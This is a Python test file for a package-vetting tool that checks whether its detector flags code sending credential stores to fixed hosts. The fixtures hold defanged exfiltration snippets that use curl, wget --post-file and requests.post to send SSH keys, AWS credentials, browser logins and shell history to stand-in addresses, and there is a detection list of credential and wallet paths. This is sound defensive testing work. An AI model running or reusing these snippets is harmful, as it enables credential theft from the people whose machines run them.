"""Credential stores collected and uploaded (``code.exfil_flow``, ``flow:file_upload``): a function that
names a credential store and uploads to a destination the package fixes (a shell upload run by a process,
an HTTP file post); not an upload to a caller's URL, to a well-known service, or in another function, and
not a credential path with no upload.

Every package is defanged source built in memory (TEST-NET addresses, example hosts) and nothing runs."""

from __future__ import annotations

import pytest

from featurepkgs import assert_flow_at
from featurepkgs import module_features as features
from vetpy.features.source.upload import UPLOAD_TOKEN

UPLOADS = {
    "histories zipped and sent with curl -F from os.system": (
        "import os, shutil\ndef grab(user):\n    hist = '/Users/' + user + '/.bash_history'\n"
        "    shutil.copyfile(hist, '/tmp/x/h')\n    shutil.make_archive('/tmp/x', 'zip', '/tmp/x')\n"
        "    cmd = 'curl -k -F \"file=@' + '/tmp/x.zip' + '\" https://198.51.100.7/upload'\n"
        "    os.system(cmd)\n",
        6,
    ),
    "an ssh key posted as a file to a fixed host": (
        "import os, requests\ndef send():\n    key = os.path.expanduser('~/.ssh/id_rsa')\n"
        "    requests.post('https://collector.example.net/in', files={'f': open(key, 'rb')})\n",
        4,
    ),
    "browser logins posted as data read from the file": (
        "import requests\nURL = 'http://203.0.113.9:8080/drop'\ndef go(profile):\n"
        "    p = profile + '/Login Data'\n"
        "    requests.post(URL, data=open(p, 'rb').read())\n",
        5,
    ),
    "module-level wget --post-file of the aws credentials": (
        "import subprocess\nsubprocess.call('wget --post-file=/root/.aws/credentials http://198.51.100.3/x',"
        " shell=True)\n",
        2,
    ),
}


@pytest.mark.parametrize("name", sorted(UPLOADS))
def test_collected_credentials_uploaded_are_exfiltration(name: str) -> None:
    code, line = UPLOADS[name]
    assert_flow_at(code, UPLOAD_TOKEN, "code.exfil_flow", "credential store", line)


PLAIN = {
    "an upload to the URL the caller gives": (
        "import requests, os\ndef backup(url):\n    key = os.path.expanduser('~/.ssh/id_rsa.pub')\n"
        "    requests.post(url, files={'f': open(key, 'rb')})\n"
    ),
    "a credential path and an upload in different functions": (
        "import os\ndef where():\n    return os.path.expanduser('~/.aws/credentials')\n"
        "def publish():\n    os.system('curl -F \"pkg=@dist/x.tar.gz\" https://198.51.100.7/upload')\n"
    ),
    "a credential path and no upload": (
        "import os, shutil\ndef keep():\n    shutil.copy(os.path.expanduser('~/.ssh/config'), '/tmp/c')\n"
        "    os.system('ls /tmp')\n"
    ),
    "an upload command nothing runs, beside a credential path": (
        "HELP = 'run: curl -F \"file=@report.txt\" https://198.51.100.7/up'\nCONF = '~/.aws/credentials'\n"
    ),
    "a release upload to a well-known host": (
        "import subprocess\ndef release():\n    cfg = '~/.pypirc'\n"
        "    subprocess.run('curl -F \"content=@dist/a.whl\" https://github.com/o/r/releases', shell=True)\n"
    ),
}


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_plain_uploads_and_credential_paths_are_not_exfiltration(name: str) -> None:
    f = features(PLAIN[name])
    assert UPLOAD_TOKEN not in f.code_text.split(), name
    assert not [e for e in f.evidence_for("code.exfil_flow") if "credential store" in e.message], name


def _credential_cases() -> list[str]:
    """Strings holding each alternative of CREDENTIAL_RE in mixed case (and with the two non-ASCII letters
    a case-insensitive regex takes for ASCII ones), near misses, and plain strings."""
    import random

    from vetpy.features import strings as st

    rng = random.Random(5)
    pieces = [
        ".ssh/",
        "id_rsa",
        "id_ed25519",
        "id_ecdsa",
        ".aws/credentials",
        ".git-credentials",
        ".pypirc",
        ".npmrc",
        ".docker\\config.json",
        ".kube/config",
        "login data",
        "local state",
        "local storage//leveldb",
        "discordcanary/",
        "telegram desktop",
        " tdata ",
        "exodus\\",
        "electrum/",
        "metamask",
        "nkbihfbeogaeaoehlefnkodbefgpgknn",
        "/etc/shadow",
        ".bash_history",
        "chrome//user data",
        "mozilla/firefox",
        "cookies.sqlite",
        "logins.json",
        "key4.db",
        "aws_secret_access_key",
        "google_application_credentials",
        "cryptunprotectdata",
        "browser_cookie",
    ]
    assert all(st.CREDENTIAL_RE.search(p) for p in pieces)
    cases = []
    for piece in pieces:
        for _ in range(4):
            mixed = "".join(c.upper() if rng.random() < 0.5 else c for c in piece)
            cases.append(f"path {mixed} end")
        cases.append(piece.replace("i", "\u0131").replace("s", "\u017f"))  # dotless i, long s
        cases.append(piece[:-2])  # a near miss
    cases += ["\u0130" + p for p in pieces[:5]]  # lower-casing changes the length: searched anyway
    cases += ["plain words", "https://example.org/x", "data=open(f)", "\ud800 lone surrogate .ssh/"]
    return cases


def test_the_credential_path_search_is_the_pattern_search() -> None:
    from vetpy.features import strings as st
    from vetpy.features.source.upload import credential_path

    for value in _credential_cases():
        direct = st.CREDENTIAL_RE.search(value)
        gated = credential_path(value)
        assert (direct is None) == (gated is None), value
        if direct is not None and gated is not None:
            assert direct.span() == gated.span(), value
